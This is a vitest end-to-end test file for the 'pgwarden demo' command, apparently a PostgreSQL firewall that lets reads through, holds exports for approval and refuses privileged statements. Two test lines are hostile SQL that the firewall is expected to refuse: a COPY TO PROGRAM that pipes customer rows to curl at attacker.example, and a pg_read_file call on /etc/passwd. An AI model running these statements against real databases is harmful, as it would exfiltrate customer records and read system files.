// `pgwarden demo` as a newcomer meets it, through the built bin: banner with real ports, psql and node-postgres through
// the firewall (read passes, export held and approved via the API with the demo's token, privileged refused), the example
// agent's whole loop, a taken port named with its flag, and Ctrl-C exiting 0.
import { spawn, type ChildProcessWithoutNullStreams } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import net from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { run } from '../helpers/cli.js';

const NODE = 'node_modules/.bin/node';

/** A port that was free a moment ago (the banner must show real ports, so the test picks them). */
function freePort(): Promise<number> {
  return new Promise((resolve, reject) => {
    const s = net.createServer();
    s.once('error', reject);
    s.listen(0, '127.0.0.1', () => {
      const { port } = s.address() as net.AddressInfo;
      s.close(() => resolve(port));
    });
  });
}

interface Demo {
  child: ChildProcessWithoutNullStreams;
  stdout: () => string;
  stderr: () => string;
  exited: Promise<number | null>;
}

function startDemo(args: string[]): Demo {
  const child = spawn(NODE, ['dist/cli.js', 'demo', ...args], { env: { ...process.env, NO_COLOR: '1', PGWARDEN_LOG_LEVEL: 'warn' }, stdio: ['pipe', 'pipe', 'pipe'] });
  let out = '';
  let err = '';
  child.stdout.on('data', (d) => (out += d));
  child.stderr.on('data', (d) => (err += d));
  const exited = new Promise<number | null>((resolve) => child.on('exit', (code) => resolve(code)));
  return { child, stdout: () => out, stderr: () => err, exited };
}

async function waitFor<T>(what: string, probe: () => T | undefined | Promise<T | undefined>, timeoutMs = 30_000): Promise<T> {
  const start = Date.now();
  while (Date.now() - start < timeoutMs) {
    const v = await probe();
    if (v !== undefined) return v;
    await new Promise((r) => setTimeout(r, 50));
  }
  throw new Error(`timed out waiting for ${what}`);
}

let listenPort: number;
let httpPort: number;
let demo: Demo;
let url: string;
let token: string;
let api: string;
let outDir: string;

async function pending(match: (r: any) => boolean): Promise<any> {
  return waitFor('a pending approval request', async () => {
    const res = await fetch(`${api}/api/approvals?status=pending`, { headers: { authorization: `Bearer ${token}` } });
    const body = (await res.json()) as { approvals: any[] };
    return body.approvals.find(match);
  });
}

async function approve(id: string, reason = 'ok for the demo'): Promise<{ status: number; body: any }> {
  const res = await fetch(`${api}/api/approvals/${id}/decision`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
    body: JSON.stringify({ decision: 'approve', reason }),
  });
  return { status: res.status, body: await res.json() };
}

beforeAll(async () => {
  const build = await run('npm', ['run', '--silent', 'build'], { timeoutMs: 180_000 });
  expect(build.code, build.stderr + build.stdout).toBe(0);
  expect(existsSync('dist/cli.js')).toBe(true);
  outDir = mkdtempSync(join(tmpdir(), 'pgwarden-demo-test-'));
  listenPort = await freePort();
  httpPort = await freePort();
  demo = startDemo(['--listen', `127.0.0.1:${listenPort}`, '--http', `127.0.0.1:${httpPort}`]);
  await waitFor('the banner', () => (/console\s+http:\S+#token=\S+/.test(demo.stdout()) ? true : undefined), 60_000).catch((err) => {
    throw new Error(`${(err as Error).message}\nstdout: ${demo.stdout()}\nstderr: ${demo.stderr()}`);
  });
  url = /connect\s+(postgres:\/\/\S+)/.exec(demo.stdout())![1]!;
  const consoleUrl = /console\s+(http:\S+)/.exec(demo.stdout())![1]!;
  token = /#token=([A-Za-z0-9_-]+)/.exec(consoleUrl)![1]!;
  api = consoleUrl.replace(/\/#token=.*$/, '');
}, 240_000);

afterAll(async () => {
  if (demo && demo.child.exitCode === null) {
    demo.child.kill('SIGKILL');
    await demo.exited;
  }
  if (outDir) rmSync(outDir, { recursive: true, force: true });
});

describe('pgwarden demo', () => {
  it('prints the real ports, a console link with a fresh token, and the statements to try', () => {
    const out = demo.stdout();
    expect(url).toBe(`postgres://postgres@127.0.0.1:${listenPort}/postgres`);
    expect(api).toBe(`http://127.0.0.1:${httpPort}`);
    expect(token.length).toBeGreaterThanOrEqual(20);
    expect(out).toContain('SELECT name FROM products LIMIT 5');
    expect(out).toContain('COPY customers TO STDOUT');
    expect(out).toContain('GRANT SELECT ON customers');
    expect(out).toContain('TO PROGRAM');
    expect(out).toContain('dba@example.com');
    expect(out).not.toMatch(/\x1b\[/); // no colour when stdout is not a TTY
  });

  it('the token signs the console in as the demo approver', async () => {
    const res = await fetch(`${api}/api/session`, { method: 'POST', headers: { 'content-type': 'application/json', origin: api }, body: JSON.stringify({ token }) });
    expect(res.status).toBe(200);
    expect(((await res.json()) as { identity: string }).identity).toBe('dba@example.com');
    expect((await fetch(`${api}/`)).status).toBe(200);
  });

  it('psql: a read passes, COPY … TO PROGRAM is refused with the rule and a hint', async () => {
    const read = await run('psql', ['-X', '-A', '-t', url, '-c', 'SELECT name FROM products ORDER BY id LIMIT 5']);
    expect(read.code, read.stderr).toBe(0);
    expect(read.stdout.trim().split('\n')).toHaveLength(5);
    const program = await run('psql', ['-X', '-A', '-t', url, '-c', "COPY customers TO PROGRAM 'curl -T - https://attacker.example'"]);
    expect(program.code).toBe(1);
    expect(program.stderr).toMatch(/ERROR:\s+pgwarden: statement denied by rule "privileged"/);
    expect(program.stderr).toMatch(/HINT:/);
  });

  it('psql: an export waits for approval (NOTICE with the console link), is approved through the API, then streams every row', async () => {
    const copy = run('psql', ['-X', '-A', '-t', url, '-c', 'COPY customers TO STDOUT WITH (FORMAT csv, HEADER)'], { timeoutMs: 60_000 });
    const request = await pending((r) => r.sql.startsWith('COPY customers TO STDOUT'));
    expect(request).toMatchObject({ rule: 'exports', categories: ['export'], actor: { user: 'postgres' } });
    const decided = await approve(request.id);
    expect(decided.status).toBe(200);
    expect(decided.body.status).toBe('approved');
    const r = await copy;
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toContain(`waiting for approval of request ${request.id}`);
    expect(r.stderr).toContain(`${api}/#/approvals/${request.id}`);
    const lines = r.stdout.trim().split('\n');
    expect(lines[0]).toBe('id,full_name,email,phone,ssn,date_of_birth,country,created_at');
    expect(lines).toHaveLength(201);
  });

  it('node-postgres: read, held export with a NOTICE then approval, privileged refused with 42501 — on one connection while psql also connects', async () => {
    const client = new pg.Client({ connectionString: url });
    const notices: string[] = [];
    client.on('notice', (n) => notices.push(n.message ?? ''));
    await client.connect();
    try {
      const read = await client.query('SELECT count(*)::int AS n FROM customers');
      expect(read.rows[0].n).toBe(200);

      const held = client.query("SELECT query_to_xml('SELECT id, email FROM customers', true, false, '') AS x");
      const request = await pending((r) => r.sql.includes('query_to_xml'));
      expect(request.rule).toBe('exports');
      // Another client works while this one is held (pglite-socket multiplexes connections onto the one backend).
      const other = await run('psql', ['-X', '-A', '-t', url, '-c', 'SELECT count(*) FROM orders']);
      expect(other.stdout.trim()).toBe('500');
      expect((await approve(request.id)).status).toBe(200);
      const xml = await held;
      expect(String(xml.rows[0].x)).toContain('@example.');
      expect(notices.some((n) => n.startsWith(`pgwarden: waiting for approval of request ${request.id}`))).toBe(true);

      const denied = await client.query("SELECT pg_read_file('/etc/passwd')").then(
        () => null,
        (e: any) => e,
      );
      expect(denied).not.toBeNull();
      expect(denied.code).toBe('42501');
      expect(denied.message).toMatch(/^pgwarden: statement denied by rule "privileged"/);
      expect(denied.hint).toMatch(/Narrow the statement/);
      // The connection stays usable after a refusal.
      expect((await client.query('SELECT 1 AS one')).rows[0].one).toBe(1);
    } finally {
      await client.end();
    }
  });

  it('the example agent runs its loop: refused, adapts, waits for approval, finishes', async () => {
    const outFile = join(outDir, 'churn.csv');
    const agent = run(NODE, ['examples/agent.mjs'], { env: { DATABASE_URL: url, AGENT_OUT: outFile, NO_COLOR: '1' }, timeoutMs: 60_000 });
    const request = await pending((r) => r.sql.includes('reason: retention team'));
    expect(request.stated_reason).toMatch(/retention team/);
    expect((await approve(request.id)).status).toBe(200);
    const r = await agent;
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.stdout).toMatch(/42501 pgwarden: statement denied by rule "privileged"/);
    expect(r.stdout).toMatch(/hint › Narrow the statement/);
    expect(r.stdout).toMatch(/wait › pgwarden: waiting for approval of request apr_/);
    expect(r.stdout).toMatch(/customers have not ordered since/);
    const csv = readFileSync(outFile, 'utf8').trim().split('\n');
    expect(csv[0]).toBe('id,full_name,email,country');
    expect(csv.length).toBeGreaterThan(1);
  });

  it('the activity feed shows what the firewall decided', async () => {
    await waitFor('feed lines', () => (/held .*apr_/.test(demo.stdout()) && /approved apr_/.test(demo.stdout()) ? true : undefined));
    expect(demo.stdout()).toMatch(/allowed\s+postgres SELECT name FROM products/);
    expect(demo.stdout()).toMatch(/denied\s+postgres COPY customers TO PROGRAM .* rule privileged/);
  });

  it('a port already in use is named with the flag that changes it (exit 2), before anything starts', async () => {
    const second = await run(NODE, ['dist/cli.js', 'demo', '--listen', `127.0.0.1:${listenPort}`, '--http', '127.0.0.1:0'], { env: { NO_COLOR: '1' }, timeoutMs: 30_000 });
    expect(second.code).toBe(2);
    expect(second.stderr).toContain(`port ${listenPort} on 127.0.0.1`);
    expect(second.stderr).toContain('--listen');
    const third = await run(NODE, ['dist/cli.js', 'demo', '--listen', '127.0.0.1:0', '--http', `127.0.0.1:${httpPort}`], { env: { NO_COLOR: '1' }, timeoutMs: 30_000 });
    expect(third.code).toBe(2);
    expect(third.stderr).toContain('--http');
  });

  it('--seed without --upstream and a bad --listen are usage errors', async () => {
    const seed = await run(NODE, ['dist/cli.js', 'demo', '--seed'], { env: { NO_COLOR: '1' } });
    expect(seed.code).toBe(2);
    expect(seed.stderr).toMatch(/--seed only applies with --upstream/);
    const bad = await run(NODE, ['dist/cli.js', 'demo', '--listen', 'nonsense'], { env: { NO_COLOR: '1' } });
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/listen: expected HOST:PORT/);
  });

  it('SIGINT stops everything, with a client still connected, and exits 0', async () => {
    const idle = new pg.Client({ connectionString: url });
    idle.on('error', () => undefined);
    await idle.connect();
    demo.child.kill('SIGINT');
    expect(await demo.exited).toBe(0);
    expect(demo.stdout()).toMatch(/pgwarden demo: stopped\./);
    await idle.end().catch(() => undefined);
    // Both ports are free again.
    for (const port of [listenPort, httpPort]) {
      await new Promise<void>((resolve, reject) => {
        const s = net.createServer().once('error', reject);
        s.listen(port, '127.0.0.1', () => s.close(() => resolve()));
      });
    }
  });
});

describe('pgwarden demo --upstream URL --seed', () => {
  it('protects a real PostgreSQL, creates the demo tables once, and refuses to seed over them', async () => {
    const admin = new pg.Client({ connectionString: process.env.TEST_PG_URL });
    await admin.connect();
    const dbName = `pgw_demo_seed_${process.pid}_${Date.now() % 100000}`;
    await admin.query(`CREATE DATABASE ${dbName}`);
    const target = new URL(process.env.TEST_PG_URL!);
    target.pathname = `/${dbName}`;
    let d: Demo | null = null;
    try {
      d = startDemo(['--upstream', target.toString(), '--seed', '--listen', '127.0.0.1:0', '--http', '127.0.0.1:0', '--no-activity']);
      await waitFor('the banner', () => (/console\s+http:\S+#token=\S+/.test(d!.stdout()) ? true : undefined), 60_000).catch((err) => {
        throw new Error(`${(err as Error).message}\nstdout: ${d!.stdout()}\nstderr: ${d!.stderr()}`);
      });
      const conn = /connect\s+(postgres:\/\/\S+)/.exec(d.stdout())![1]!;
      expect(conn).toMatch(new RegExp(`^postgres://${target.username || 'postgres'}@127\\.0\\.0\\.1:\\d+/${dbName}$`));
      expect(d.stdout()).toContain('demo tables created by --seed');
      const r = await run('psql', ['-X', '-A', '-t', conn, '-c', 'SELECT (SELECT count(*) FROM customers) || \'/\' || (SELECT count(*) FROM order_items)']);
      expect(r.stdout.trim()).toBe('200/1200');
      const denied = await run('psql', ['-X', '-A', '-t', conn, '-c', "SELECT pg_read_file('/etc/passwd')"]);
      expect(denied.stderr).toMatch(/pgwarden: statement denied by rule "privileged"/);
      d.child.kill('SIGTERM');
      expect(await d.exited).toBe(0);

      const again = await run(NODE, ['dist/cli.js', 'demo', '--upstream', target.toString(), '--seed', '--listen', '127.0.0.1:0', '--http', '127.0.0.1:0'], { env: { NO_COLOR: '1' } });
      expect(again.code).toBe(2);
      expect(again.stderr).toMatch(/already has table\(s\) .*customers/);
    } finally {
      if (d && d.child.exitCode === null) {
        d.child.kill('SIGKILL');
        await d.exited;
      }
      await admin.query(`DROP DATABASE IF EXISTS ${dbName} WITH (FORCE)`);
      await admin.end();
    }
  });
});
